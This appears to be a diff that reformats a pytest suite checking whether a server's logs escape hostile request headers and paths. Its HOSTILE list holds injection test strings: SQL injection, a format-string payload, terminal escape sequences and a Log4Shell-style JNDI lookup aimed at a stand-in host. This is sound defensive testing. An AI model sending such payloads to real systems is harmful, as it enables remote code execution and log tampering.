@@ -9,11 +9,20 @@ import pytest
 from harness.expect import assert_refused
 from harness.server import Keyed, make_key
 
-HOSTILE = ["' OR 1=1--", "%s%s%n", "\x1b[31mred\x1b[0m", "${jndi:ldap://evil.example/x}", "\x1b]0;title\x07",
-           "{}{:?}", "x" * 4000]
+HOSTILE = [
+    "' OR 1=1--",
+    "%s%s%n",
+    "\x1b[31mred\x1b[0m",
+    "${jndi:ldap://evil.example/x}",
+    "\x1b]0;title\x07",
+    "{}{:?}",
+    "x" * 4000,
+]
 
 
-@pytest.mark.parametrize("name", ["User-Agent", "Referer", "Accept-Language", "X-Request-Id", "Cookie"])
+@pytest.mark.parametrize(
+    "name", ["User-Agent", "Referer", "Accept-Language", "X-Request-Id", "Cookie"]
+)
 @pytest.mark.parametrize("value", HOSTILE, ids=lambda value: repr(value[:12]))
 def test_s93_headers_reach_the_log_escaped_or_not_at_all(server, name, value):
     with server.raw() as raw:
@@ -35,12 +44,35 @@ def test_s93_paths_reach_the_log_escaped(server):
     assert not [line for line in server.log if line.startswith("fake-line")]
 
 
-ROUTES = ["/v1/runs", "/v1/runs/x", "/v1/runs/x/cancel", "/v1/runs/x/events", "/v1/sessions",
-          "/v1/sessions/x", "/v1/sessions/x/turns", "/v1/sessions/x/commands",
-          "/v1/sessions/x/commands/y/logs", "/v1/sessions/x/files", "/v1/sessions/x/files/content",
-          "/v1/sessions/x/files/archive", "/v1/sessions/x/files/events", "/v1/sessions/x/tools",
-          "/v1/environments", "/v1/languages", "/v1/limits", "/v1/host", "/metrics", "/openapi.json",
-          "/docs", "/sessions", "/sessions/x", "/sessions/x/exec", "/sessions/x/files", "/nowhere", "/"]
+ROUTES = [
+    "/v1/runs",
+    "/v1/runs/x",
+    "/v1/runs/x/cancel",
+    "/v1/runs/x/events",
+    "/v1/sessions",
+    "/v1/sessions/x",
+    "/v1/sessions/x/turns",
+    "/v1/sessions/x/commands",
+    "/v1/sessions/x/commands/y/logs",
+    "/v1/sessions/x/files",
+    "/v1/sessions/x/files/content",
+    "/v1/sessions/x/files/archive",
+    "/v1/sessions/x/files/events",
+    "/v1/sessions/x/tools",
+    "/v1/environments",
+    "/v1/languages",
+    "/v1/limits",
+    "/v1/host",
+    "/metrics",
+    "/openapi.json",
+    "/docs",
+    "/sessions",
+    "/sessions/x",
+    "/sessions/x/exec",
+    "/sessions/x/files",
+    "/nowhere",
+    "/",
+]
 
 
 @pytest.mark.parametrize("path", ROUTES)
